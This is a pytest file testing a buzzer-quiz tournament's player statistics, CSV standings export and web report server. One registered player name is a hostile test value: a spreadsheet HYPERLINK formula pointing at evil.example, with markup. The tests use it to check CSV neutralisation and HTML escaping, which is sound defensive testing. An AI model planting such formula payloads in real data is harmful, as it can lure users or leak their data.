"""Tournament statistics: each player over every reported game.

A small tournament (nine players, three first-stage games and the final) is
recorded from journals built here; one player's numbers are worked out by
hand from the presses. Then the CLI's ``standings --csv``, and the real server
(uvicorn on 127.0.0.1): the CSV with a hostile name quoted and neutralised,
the standings page escaping names and linking each game's report, the report
route serving the page under the report's own policy.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
from pathlib import Path
from typing import Any

import pytest

from buzzer.app.tournament_cli import game_report, game_statistics
from buzzer.panel.server import BackgroundServer
from buzzer.tournament.records import DrawnGame
from buzzer.tournament.server import create_tournament_app, issue_token
from buzzer.tournament.statistics import (
    journal_statistics,
    player_statistics,
    safe_cell,
    standings_csv,
)
from buzzer.tournament.store import TournamentStore, record_game_result
from buzzer.web_headers import REPORT_CSP
from rules.tournament.registration import Player
from tests.buzzer.tournament.test_tournament_hostile import shown_cells
from tests.support.cli import checked, svoyak_here
from tests.support.http import http_client
from tests.support.lines import bad, ok, pr, re_, rs, sel
from tests.support.paths import REPO

#: A hostile name: a formula, quotes, a comma, a line break and markup.
HOSTILE = '=HYPERLINK("http://evil.example/?x","a,b")\n"<b>Зоя</b>"'
TEAMS = {
    "Red": ["Аня", "Борис", "Вера"],
    "Green": ["Глеб", "Дина", "Ефим"],
    "Blue": ["Жанна", HOSTILE, "Игорь"],
}
HEAD = {"type": "game", "rules": "sport-false-start", "settle_ms": 2}
BOARD = {"themes": 1, "prices": [10, 20]}


def lines(players: tuple[str, ...], *events: dict[str, Any]) -> list[str]:
    header = {**HEAD, "board": BOARD, "players": list(players)}
    return [json.dumps(header, ensure_ascii=False)] + [json.dumps(e) for e in events]


def first_stage(players: tuple[str, ...]) -> list[str]:
    """Seat 1: a false start, 0.5 s after the reopened window (right), then 0.3 s (right).

    Seat 2: 0.25 s, wrong; seat 3: 0.4 s, behind seat 2. Scores 30, −10, 0."""
    return lines(
        players,
        sel(1.0),
        rs(1.2),
        pr(2.0, 1),  # a false start: before the reading's end
        re_(3.0),  # the signal
        pr(3.25, 2),  # 250 ms
        pr(3.4, 3),  # 400 ms, behind seat 2
        bad(4.0),  # the window reopens at 4.0
        pr(4.5, 1),  # 500 ms
        ok(5.0),
        sel(6.0),
        rs(6.2),
        re_(7.0),
        pr(7.3, 1),  # 300 ms
        ok(8.0),
    )


def final(players: tuple[str, ...]) -> list[str]:
    """Seat 2: 0.2 s, right (+10); seat 1: 0.35 s behind; seat 3: 0.8 s wrong (−20);
    seat 1: 0.1 s after the reopened window, right (+20). Scores 20, 10, −20."""
    return lines(
        players,
        sel(1.0),
        rs(1.2),
        re_(2.0),
        pr(2.2, 2),  # 200 ms
        pr(2.35, 1),  # 350 ms, behind seat 2
        ok(3.0),
        sel(4.0),
        rs(4.2),
        re_(5.0),
        pr(5.8, 3),  # 800 ms
        bad(6.0),
        pr(6.1, 1),  # 100 ms after the reopened window
        ok(6.5),
    )


def new_cup(path: Path) -> tuple[DrawnGame, ...]:
    with TournamentStore.create(path, datetime.date(2026, 9, 1)) as store:
        for team, names in TEAMS.items():
            for i, name in enumerate(names):
                store.register(Player(name, datetime.date(2012, i + 1, 15), "Тверь", team))
        return store.draw_next(seed=7)


@pytest.fixture
def cup(tmp_path: Path) -> tuple[Path, tuple[DrawnGame, ...], DrawnGame]:
    """Every game recorded by the committee's path: three first-stage games, the final."""
    path = tmp_path / "cup.sqlite"
    games = new_cup(path)
    with TournamentStore(path) as store:
        for game in games:
            record_game_result(store, game.id, first_stage(game.players))
        (last,) = store.draw_next(seed=8)
        record_game_result(store, last.id, final(last.players))
    return path, games, last


def test_statistics_from_the_stored_journals(
    cup: tuple[Path, tuple[DrawnGame, ...], DrawnGame],
) -> None:
    path, games, last = cup
    with TournamentStore(path) as store:
        journals = store.journals()
        seats = store.seat_results()
    assert sorted(journals) == sorted([*(g.id for g in games), last.id])
    # Kept exactly as reported.
    assert list(journals[last.id].lines) == final(last.players)
    stats = player_statistics(seats, journal_statistics(journals, game_statistics))

    # By hand, the final's seat 1 (a first-stage winner, so seat 1 there too):
    # reactions 500 and 300 ms (first stage), 350 and 100 ms (final); the median of
    # 100, 300, 350, 500 is 325 ms, the best 100 ms; the false start counted apart;
    # right 2 + 1, wrong none; points 30 + 20 over two games.
    p = stats[last.players[0]]
    assert p.reactions_us == (500_000, 300_000, 350_000, 100_000)
    assert (p.median_us, p.best_us) == (325_000, 100_000)
    assert (p.false_starts, p.right, p.wrong) == (1, 3, 0)
    assert (p.games, p.journaled, p.points, float(p.points_per_game or 0)) == (2, 2, 50, 25.0)

    # The final's seat 3: a first-stage winner too, then 800 ms and wrong in the final.
    q = stats[last.players[2]]
    assert q.reactions_us == (500_000, 300_000, 800_000)
    assert (q.median_us, q.best_us, q.right, q.wrong, q.points) == (500_000, 300_000, 2, 1, 10)

    # A first-stage seat 2 who did not reach the final: 250 ms, wrong, −10 in one game.
    loser = stats[games[0].players[1]]
    assert loser.reactions_us == (250_000,)
    assert (loser.false_starts, loser.right, loser.wrong, loser.points) == (0, 0, 1, -10)
    assert float(loser.points_per_game or 0) == -10.0


def test_standings_csv_from_the_cli(cup: tuple[Path, tuple[DrawnGame, ...], DrawnGame]) -> None:
    path, _, last = cup
    out = checked(svoyak_here("tournament", "standings", path, "--csv", cwd=REPO)).stdout
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == 9
    row = next(r for r in rows if r["name"] == last.players[0])
    assert row["reaction_median_ms"] == "325.000" and row["reaction_best_ms"] == "100.000"
    assert (row["right"], row["wrong"], row["false_starts"], row["reactions"]) == (
        "3",
        "0",
        "1",
        "4",
    )
    assert (row["games"], row["points"], row["points_per_game"]) == ("2", "50", "25.00")
    hostile = next(r for r in rows if r["name"].endswith('"<b>Зоя</b>"'))
    assert hostile["name"] == "'" + HOSTILE

    text = checked(svoyak_here("tournament", "standings", path, cwd=REPO)).stdout
    assert "Statistics over every reported game" in text
    line = next(x for x in text.splitlines() if x.startswith(last.players[0]) and "325.000" in x)
    assert line.split()[1:] == ["2", "25.00", "3", "0", "325.000", "100.000", "1"]

    # `export` writes every seat under the same policy: the name as text, never a formula.
    seats = path.parent / "seats.csv"
    checked(svoyak_here("tournament", "export", path, seats, cwd=REPO))
    with seats.open(encoding="utf-8", newline="") as handle:
        players = {r["player"] for r in csv.DictReader(handle)}
    assert "'" + HOSTILE in players and HOSTILE not in players


def test_safe_cell_and_rfc4180() -> None:
    for start in "=+-@\t\r":
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Аня") == "Аня" and safe_cell("a=b") == "a=b"
    assert standings_csv((), {}).endswith("\r\n")


def test_the_server_serves_statistics_csv_and_reports(tmp_path: Path) -> None:
    path = tmp_path / "cup.sqlite"
    games = new_cup(path)
    game = next(g for g in games if HOSTILE in g.players)
    with TournamentStore(path) as store:
        store.assign_room(game.id, "zal-1")
    token = issue_token(path, "zal-1")
    app = create_tournament_app(path, statistics=game_statistics, report=game_report)
    with BackgroundServer(app) as server, http_client(timeout=30) as client:
        base = server.url
        page = client.get(f"{base}/")
        assert "games/" not in page.text  # nothing recorded: no report to link

        posted = client.post(
            f"{base}/api/rooms/zal-1/results",
            json={"game_id": game.id, "journal": first_stage(game.players)},
            headers={"Authorization": f"Bearer {token}"},
        )
        assert posted.status_code == 201, posted.text

        exported = client.get(f"{base}/standings.csv")
        assert exported.status_code == 200
        assert exported.headers["content-type"].startswith("text/csv")
        assert "attachment" in exported.headers["content-disposition"]
        # UTF-8 with a byte-order mark: Excel opens the Cyrillic names by a double click.
        assert exported.content.startswith(b"\xef\xbb\xbf")
        raw = exported.content[3:].decode("utf-8")
        # RFC 4180: the field quoted, its quotes doubled, its line break inside the quotes,
        # and a leading ' so a spreadsheet never runs it.
        quoted = '"' + ("'" + HOSTILE).replace('"', '""') + '"'
        assert quoted in raw
        assert all(not line.startswith(("=", "+", "-", "@")) for line in raw.split("\r\n"))
        rows = list(csv.DictReader(io.StringIO(raw, newline="")))
        assert len(rows) == 9
        hostile = next(r for r in rows if r["name"] == "'" + HOSTILE)
        seat = game.players.index(HOSTILE) + 1
        expected = {1: ("2", "0", "1"), 2: ("0", "1", "0"), 3: ("0", "0", "0")}[seat]
        assert (hostile["right"], hostile["wrong"], hostile["false_starts"]) == expected
        assert hostile["games_with_journal"] == "1"

        page = client.get(f"{base}/")
        assert page.status_code == 200
        # The templates' autoescape: the markup in the name is text.
        assert HOSTILE in shown_cells(page.text) and "<b>Зоя</b>" not in page.text
        assert f'href="games/{game.id}/report"' in page.text
        assert 'href="standings.csv"' in page.text
        first = game.players[0]
        cells = shown_cells(page.text)  # its statistics row: name, games, points per game
        assert any(cells[i : i + 3] == [first, "1", "30.00"] for i in range(len(cells)))
        assert "<td>400.000</td><td>300.000</td>" in page.text  # its median and best (ms)

        report = client.get(f"{base}/games/{game.id}/report")
        assert report.status_code == 200, report.text
        assert report.headers["content-type"].startswith("text/html")
        assert report.headers["content-security-policy"] == REPORT_CSP
        assert "<svg" in report.text and "<script" not in report.text.lower()
        assert "<b>Зоя</b>" not in report.text  # the report's own escaping
        english = client.get(f"{base}/games/{game.id}/report?lang=en")
        assert english.status_code == 200 and 'lang="en"' in english.text

        data = client.get(f"{base}/api/standings").json()
        (listed,) = data["games"]
        assert listed["id"] == game.id and listed["report"] is True
        row = next(p for p in data["players"] if p["name"] == first)
        assert row["statistics"]["reaction_median_us"] == 400_000

        other = next(g for g in games if g.id != game.id)
        assert client.get(f"{base}/games/{other.id}/report").status_code == 404
        assert client.get(f"{base}/games/0/report").status_code == 404


def test_a_server_without_the_report_links_none(tmp_path: Path) -> None:
    path = tmp_path / "cup.sqlite"
    games = new_cup(path)
    with TournamentStore(path) as store:
        record_game_result(store, games[0].id, first_stage(games[0].players))
    with BackgroundServer(create_tournament_app(path)) as server, http_client(timeout=30) as c:
        assert "games/" not in c.get(f"{server.url}/").text
        assert c.get(f"{server.url}/games/{games[0].id}/report").status_code == 404
        rows = list(csv.DictReader(io.StringIO(c.get(f"{server.url}/standings.csv").text)))
        assert {r["games_with_journal"] for r in rows} == {"0"}


def test_a_reported_journal_with_its_links_shows_its_seal(tmp_path: Path) -> None:
    """Lines as a room exports them (each with its link): the kept journal's report
    shows the seal ``journal verify`` would print; an edited line shows none."""
    from buzzer.journal.seal import chain, short, with_link
    from buzzer.tournament.records import StoredJournal

    path = tmp_path / "cup.sqlite"
    game = new_cup(path)[0]
    plain = first_stage(game.players)
    links = chain(plain)
    exported = [with_link(line, ln) for line, ln in zip(plain, links, strict=True)]
    with TournamentStore(path) as store:
        record_game_result(store, game.id, exported)
        kept = store.journal(game.id)
    assert kept is not None and list(kept.lines) == exported
    assert short(links[-1]) in game_report(kept, "en")
    edited = StoredJournal(game.id, (*exported[:-1], exported[-1].replace("8.0", "8.5")))
    assert short(links[-1]) not in game_report(edited, "en")
    assert [s.right for s in game_statistics(kept)] == [2, 0, 0]
